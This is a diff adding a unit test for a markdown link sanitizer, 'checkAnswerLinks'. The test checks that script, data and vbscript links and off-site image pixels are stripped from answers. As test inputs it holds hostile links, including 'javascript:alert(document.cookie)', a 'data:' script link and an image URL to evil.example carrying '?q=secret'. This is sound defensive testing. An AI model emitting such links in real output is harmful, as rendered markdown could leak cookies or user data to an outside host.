@@ -99,7 +99,29 @@ describe('checkAnswerLinks', () => {
     expect(checked.removed).toEqual([]);
   });
 
-  it('leaves code, other sites and other schemes alone', () => {
+  it('removes links no renderer should follow: scripts, data and images from elsewhere, wherever they are written', () => {
+    const answer = [
+      'Click [here](javascript:alert(document.cookie)) or [this](data:text/html,<script>x</script>) or <vbscript:run>.',
+      '![pixel](https://evil.example/p.png?q=secret) and [ref][r] stay readable; [web](//evil.example/login) stays.',
+      '',
+      '[r]: javascript:void(0)',
+      '',
+      '`[x](javascript:kept-in-code)`',
+    ].join('\n');
+    const checked = checkAnswerLinks(answer, site);
+    expect(checked.text).toBe(
+      [
+        'Click here or this or `vbscript:run`.',
+        '[image: pixel] and [ref][r] stay readable; [web](//evil.example/login) stays.',
+        '',
+        '',
+        '`[x](javascript:kept-in-code)`',
+      ].join('\n'),
+    );
+    expect(checked.removed).toEqual([]);
+  });
+
+  it('leaves code, web and e-mail links to other sites alone', () => {
     const answer = [
       'Run `[x](/nope)` or see [MDN](https://developer.mozilla.org/x) and [mail](mailto:dev@acme.dev).',
       '',
